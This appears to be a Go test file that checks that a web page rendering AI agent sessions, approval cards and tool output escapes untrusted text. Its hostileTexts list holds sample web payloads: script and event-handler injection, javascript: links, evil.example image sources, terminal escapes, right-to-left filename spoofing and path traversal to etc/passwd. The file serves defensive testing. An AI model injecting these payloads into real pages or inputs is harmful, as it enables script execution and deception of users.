package page

import (
	"encoding/json"
	"encoding/xml"
	"io"
	"maps"
	"net/http/httptest"
	"net/url"
	"regexp"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/claude-agent-go/claude/internal/terminal"
	"github.com/claude-agent-go/claude/internal/test/long"
	"github.com/claude-agent-go/claude/serve/api"
)

// hostileTexts act, hide or mislead wherever they are not taken as text.
var hostileTexts = []string{
	`</script></style></pre></textarea></title><script>window.pwned=1</script>`,
	`<img src=https://evil.example/x onerror="window.pwned=1">`, `<svg/onload=window.pwned=1>`, `" onfocus="window.pwned=1" autofocus x="`, `' onclick='x`, "` onclick=`x",
	`javascript:window.pwned=1`, `//evil.example/`, `\\evil.example\`, `data:text/html,<script>x</script>`,
	"\x1b[31mred\x1b]8;;https://evil.example\x07link\x1b]8;;\x07", "a\u202egnp.exe", "zero\u200bwidth\u2066x\u2069", "carriage\rreturn", "\x00\x07\x08\x7f\u009b",
	"![b](https://evil.example/?q=secret) [a](javascript:window.pwned=1) <b onclick=x>", "{{.}} {{template \"x\"}} ${x} <%= x %>", "</pre\n><!--", "]]><?xml", "&lt;script&gt; &#60;b&#62; &#x202e;",
	strings.Repeat("../", 40) + "etc/passwd", "-rf\n--", strings.Repeat("<b>", 600), "\xff\xfe\xed\xa0\x80",
}

// everywhere puts a text wherever the page shows foreign text, and returns the
// resulting HTML.
func everywhere(t testing.TB, p *page, text string) string {
	t.Helper()
	str := func(v any) json.RawMessage {
		data, err := json.Marshal(v)
		if err != nil {
			t.Fatal(err)
		}
		return data
	}
	at := time.Date(2026, 1, 2, 3, 4, 5, 0, time.UTC)
	call := func(id, name string, input any) map[string]any {
		return map[string]any{"type": "tool_use", "id": id, "name": name, "input": input}
	}
	ask := map[string]any{"questions": []any{map[string]any{"question": text, "header": text, "options": []any{map[string]any{"label": text, "description": text}}}}}
	edit := map[string]any{"file_path": text, "old_string": "a " + text, "new_string": "b " + text}
	said := map[string]any{"type": "assistant", "uuid": "u", "session_id": "s", "message": map[string]any{"id": "m", "role": "assistant", "content": []any{
		map[string]any{"type": "text", "text": text}, map[string]any{"type": "thinking", "thinking": text}, call("1", "Bash", map[string]any{"command": text, "description": text}),
		call("2", "Edit", edit), call("3", text, map[string]any{text: text}), call("4", "AskUserQuestion", ask), call("5", "Task", map[string]any{"description": text, "subagent_type": text}),
	}}}
	done := map[string]any{"type": "user", "uuid": "v", "session_id": "s", "message": map[string]any{"role": "user", "content": []any{
		map[string]any{"type": "tool_result", "tool_use_id": "1", "content": text, "is_error": true}, map[string]any{"type": "tool_result", "tool_use_id": "2", "content": text},
		map[string]any{"type": "text", "text": text},
	}}, "tool_use_result": map[string]any{"structuredPatch": []any{map[string]any{"oldStart": 1, "oldLines": 1, "newStart": 1, "newLines": 1, "lines": []any{"-" + text, "+x " + text}}}}}
	events := []api.Event{
		{Seq: 1, At: at, Type: api.EventPrompt, Prompt: &api.Prompt{ID: "v", By: text, Text: text, State: "queued"}},
		{Seq: 2, At: at, Type: api.EventMessage, Message: str(said)},
		{Seq: 3, At: at, Type: api.EventApproval, Approval: &api.ApprovalNote{ID: "a", ToolUseID: "1", State: api.ApprovalAllowed, DecidedBy: text, DecidedAt: at}},
		{Seq: 4, At: at, Type: api.EventMessage, Message: str(done)},
		{Seq: 5, At: at, Type: api.EventNotice, Notice: &api.Notice{Text: text, User: text}},
		{Seq: 6, At: at, Type: api.EventTurn, Turn: &api.Turn{Prompt: "v", State: "failed", Error: text}},
	}
	var out strings.Builder
	show := func(name string, v any) {
		if err := p.templates.ExecuteTemplate(&out, name, v); err != nil {
			t.Fatal(err)
		}
	}
	line := newTimeline("/srv/shop", events)
	line.render()
	for _, it := range line.items {
		show("item", it)
	}
	for _, kind := range []struct {
		kind  api.ApprovalKind
		tool  string
		input any
	}{{api.KindTool, text, map[string]any{text: text}}, {api.KindTool, "Bash", map[string]any{"command": text}}, {api.KindTool, "Edit", edit}, {api.KindPlan, "ExitPlanMode", map[string]any{"plan": text}}, {api.KindQuestion, "AskUserQuestion", ask}, {api.KindElicitation, "elicitation", map[string]any{"message": text}}} {
		for _, state := range []api.ApprovalState{api.ApprovalPending, api.ApprovalDenied} {
			c := newCard(&api.Approval{
				ID: "a", Conversation: "ada~1", Kind: kind.kind, Tool: kind.tool, Title: text, Reason: text, Input: str(kind.input), Digest: "d", Dir: "/srv/" + text, Plan: text,
				Diff: "", Suggestions: []string{text, text}, AgentID: text, State: state, DecidedBy: text, DecidedAt: at, Rule: text, Message: text, MayDecide: true, HoldsProcess: true,
			}, api.User{Name: text, Role: api.RoleAdmin}, text, "/")
			show("card", &c)
		}
	}
	show("row", api.Conversation{ID: "ada~1", Title: text, Preset: "shop", Owner: text, State: api.StateIdle, Created: at})
	for _, e := range events {
		out.WriteString(p.HTML(&e))
	}
	return out.String()
}

// elements lists the elements of HTML with their attributes, as far as a browser
// could act upon them, and checks what the attributes lead to.
func elements(t testing.TB, html string) map[string]bool {
	t.Helper()
	found := make(map[string]bool)
	d := xml.NewDecoder(strings.NewReader("<body>" + html + "</body>"))
	d.Strict, d.AutoClose, d.Entity = false, xml.HTMLAutoClose, xml.HTMLEntity
	for {
		token, err := d.Token()
		if err == io.EOF {
			return found
		}
		if err != nil {
			t.Fatalf("%v in %.2000q", err, html)
		}
		switch token := token.(type) {
		case xml.StartElement:
			for _, a := range append(token.Attr, xml.Attr{}) {
				found[token.Name.Local+" "+a.Name.Local] = true
				leadsTo(t, a)
			}
		case xml.CharData, xml.EndElement:
		default:
			t.Fatalf("there is a %T in %.2000q", token, html)
		}
	}
}

// leadsTo checks an address: it is in this page, or a link that a person must
// click on.
func leadsTo(t testing.TB, a xml.Attr) {
	t.Helper()
	if !slices.Contains([]string{"href", "src", "action", "formaction", "data"}, a.Name.Local) {
		return
	}
	u, err := url.Parse(a.Value)
	ours := err == nil && u.Scheme == "" && u.Host == "" && (strings.HasPrefix(u.Path, "/c/") || strings.HasPrefix(u.Path, "/a/"))
	if !ours && (err != nil || a.Name.Local != "href" || !slices.Contains([]string{"http", "https", "mailto"}, u.Scheme)) {
		t.Fatalf("%s=%q", a.Name.Local, a.Value)
	}
}

// choice matches the value that a form sends for an option: its raw label, which
// is never displayed.
var choice = regexp.MustCompile(`(type="radio" name="q\d+") value="[^"]*"`)

// checkHostile compares what the page makes of a text with what it makes of harmless
// ones: no text adds an element or an attribute, or leaves an invisible character.
func checkHostile(t testing.TB, p *page, known map[string]bool, text string) {
	t.Helper()
	html := choice.ReplaceAllString(everywhere(t, p, text), `$1 value=""`)
	if clean := terminal.Clean(html); clean != html {
		i := 0
		for clean[i] == html[i] {
			i++
		}
		t.Fatalf("%.200q: the page has characters that are not seen: %q", text, html[max(0, i-120):min(len(html), i+60)])
	}
	for e := range elements(t, html) {
		if !known[e] {
			t.Fatalf("%.200q brings <%s>", text, e)
		}
	}
}

// harmless has everything that Markdown and the page can show.
const harmless = "# a\n\n**b** *c* ~~d~~ `e` [f](https://example.com) https://example.com\n\n- g\n- [x] h\n\n3. i\n\n> j\n\n---\n\n|k|l|m|\n|---|--:|:-:|\n|n|o|p|\n\n```\nq\n```\nr\ns"

// knownElements are those of harmless texts, short and long.
func knownElements(t testing.TB, p *page) map[string]bool {
	t.Helper()
	known := elements(t, everywhere(t, p, harmless))
	maps.Copy(known, elements(t, everywhere(t, p, strings.Repeat("harmless ", 1000))))
	return known
}

func newTestPage(t testing.TB) *page {
	t.Helper()
	p, err := New(nil)
	if err != nil {
		t.Fatal(err)
	}
	return p.(*page)
}

// Every path has its route, for tracing of requests.
func TestRoute(t *testing.T) {
	t.Parallel()
	p := newTestPage(t)
	for request, want := range map[string]string{
		"GET /": "GET /{$}", "GET /c/ada~1": "GET /c/{id}", "POST /c/ada~1/prompt": "POST /c/{id}/prompt", "GET /a/1/full": "GET /a/{id}/full",
		"GET /static/page.css": "GET /static/{name}", "GET /login": "GET /login", "GET /nothing/here": "GET /{anything...}",
	} {
		method, path, _ := strings.Cut(request, " ")
		if got := p.Route(httptest.NewRequest(method, path, nil)); got != want {
			t.Errorf("%s: %q, want %q", request, got, want)
		}
	}
}

// Text from models, tools and users stays text wherever the page shows it: as names of
// files, tools and people, as commands, outputs, questions and plans.
func TestHostileEverywhere(t *testing.T) {
	t.Parallel()
	p := newTestPage(t)
	known := knownElements(t, p)
	for _, text := range hostileTexts {
		checkHostile(t, p, known, text)
	}
}

// However long a text is, the page stays small.
func TestLongTextsEverywhere(t *testing.T) {
	t.Parallel()
	long.Test(t, "renders megabytes")
	p := newTestPage(t)
	const text = "<é "
	once, more := len(everywhere(t, p, strings.Repeat(text, 35_000))), len(everywhere(t, p, strings.Repeat(text, 40_000)))
	if more > once+1000 {
		t.Errorf("a text of 140,000 bytes makes %d, and one of 160,000 makes %d", once, more)
	}
}

// The subject of a decision may be too long to be shown in full: the card points
// this out and links to all of it.
func TestLongTexts(t *testing.T) {
	t.Parallel()
	p := newTestPage(t)
	endless := strings.Repeat("long ", 20_000) + "the end"
	input := func(v any) json.RawMessage {
		data, err := json.Marshal(v)
		if err != nil {
			t.Fatal(err)
		}
		return data
	}
	option := func(label, description string) any {
		return map[string]any{"questions": []any{map[string]any{"question": "Q?", "header": "H", "options": []any{map[string]any{"label": label, "description": description}}}}}
	}
	short := input(map[string]string{"command": "ls"})
	for name, a := range map[string]api.Approval{
		"tool":        {Kind: api.KindTool, Tool: endless, Input: short},
		"rule":        {Kind: api.KindTool, Tool: "Bash", Input: short, Suggestions: []string{"Bash(ls)", endless}},
		"directory":   {Kind: api.KindTool, Tool: "Bash", Input: short, Dir: endless},
		"reason":      {Kind: api.KindTool, Tool: "Bash", Input: short, Reason: endless},
		"command":     {Kind: api.KindTool, Tool: "Bash", Input: input(map[string]string{"command": endless})},
		"path":        {Kind: api.KindTool, Tool: "Edit", Input: input(map[string]string{"file_path": endless, "old_string": "a", "new_string": "b"})},
		"content":     {Kind: api.KindTool, Tool: "Write", Input: input(map[string]string{"file_path": "/a", "content": endless})},
		"other input": {Kind: api.KindTool, Tool: "Bash", Input: input(map[string]string{"command": "ls", "then": endless})},
		"plan":        {Kind: api.KindPlan, Tool: "ExitPlanMode", Plan: endless, Input: input(map[string]string{})},
		"question":    {Kind: api.KindQuestion, Tool: "AskUserQuestion", Input: input(option(endless, "d"))},
		"description": {Kind: api.KindQuestion, Tool: "AskUserQuestion", Input: input(option("a", endless))},
		"message":     {Kind: api.KindElicitation, Tool: "elicitation", Input: input(map[string]string{"message": endless})},
		"form":        {Kind: api.KindElicitation, Tool: "elicitation", Input: input(map[string]string{"message": "m", "requested_schema": endless}), Form: &api.Form{Fields: []api.FormField{{Title: endless, Kind: "text"}}}},
		"value":       {Kind: api.KindElicitation, Tool: "elicitation", Input: input(map[string]string{"message": "m", "requested_schema": endless}), Form: &api.Form{Fields: []api.FormField{{Title: "t", Kind: "choice", Options: []api.FormOption{{Value: endless, Title: "a"}}}}}},
	} {
		a.ID, a.State, a.MayDecide = "1", api.ApprovalPending, true
		c := newCard(&a, api.User{}, "where", "/")
		var html strings.Builder
		if err := p.templates.ExecuteTemplate(&html, "card", &c); err != nil {
			t.Fatal(err)
		}
		if strings.Contains(html.String(), "the end") || !strings.Contains(html.String(), `<a href="/a/1/full">Read it in full</a> before you decide.`) {
			t.Errorf("%s: a card of %d bytes does not say that it was cut", name, html.Len())
		}
		if !strings.Contains(full(&a), "the end") {
			t.Errorf("%s: the full text is not full", name)
		}
	}
	c := newCard(&api.Approval{Kind: api.KindTool, Tool: "Bash", Input: short, Dir: "/srv", Reason: "because", Suggestions: []string{"Bash(ls)"}}, api.User{}, "where", "/")
	if c.Cut {
		t.Error("a card that shows everything says that it does not")
	}
}

func FuzzEverywhere(f *testing.F) {
	for _, text := range hostileTexts {
		f.Add(text)
	}
	p := newTestPage(f)
	known := knownElements(f, p)
	f.Fuzz(func(t *testing.T, text string) {
		if len(text) < 4<<10 {
			checkHostile(t, p, known, text)
		}
	})
}
